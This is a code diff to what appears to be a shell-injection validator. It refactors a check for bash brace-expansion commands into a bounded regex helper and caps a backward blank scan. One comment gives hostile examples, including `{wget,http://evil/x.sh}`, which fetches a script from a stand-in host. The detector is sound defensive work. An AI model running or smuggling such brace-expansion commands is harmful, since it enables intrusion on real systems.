@@ -149,9 +149,19 @@ function assignedProgram(v: string, name: string, before: number): boolean {
 
 /** (nineteenth round) A brace list where a command starts, its first word a program: bash runs `{wget,http://evil/x.sh}`, `;{ls,}`. */
 export function braceProgram(v: string): boolean {
-  if (!v.includes('{') || !v.includes(',')) return false
-  BRACE_PROGRAM.lastIndex = 0
-  for (let m = BRACE_PROGRAM.exec(v), n = 0; m !== null && n < 8; m = BRACE_PROGRAM.exec(v), n++) if (COMMANDS.has(m[1]!)) return true
+  return v.includes('{') && v.includes(',') && someCapture(BRACE_PROGRAM, v, (word) => COMMANDS.has(word))
+}
+
+/** Whether, among the first 8 matches of a global pattern, one's first group passes `test` (a bounded scan of a value's candidates). */
+export function someCapture(re: RegExp, v: string, test: (captured: string) => boolean): boolean {
+  re.lastIndex = 0
+  for (let m = re.exec(v), n = 0; m !== null && n < 8; m = re.exec(v), n++) {
+    if (test(m[1]!)) {
+      re.lastIndex = 0
+      return true
+    }
+  }
+  re.lastIndex = 0
   return false
 }
 
@@ -646,7 +656,8 @@ function appendedCommand(v: string): boolean {
 /** Whether what comes before `i` (blanks skipped) is the value's start or a separator of commands. */
 function afterSeparator(v: string, i: number): boolean {
   let k = i - 1
-  while (k >= 0 && isBlank(v.charCodeAt(k))) k--
+  // (at most 16 blanks back: a run of blanks before each of many `$(` costs no more than a few characters each)
+  while (k >= 0 && k >= i - 16 && isBlank(v.charCodeAt(k))) k--
   if (k < 0) return true
   const c = v.charCodeAt(k)
   return c === 59 || c === 124 || c === 38 || c === 10 || c === 13
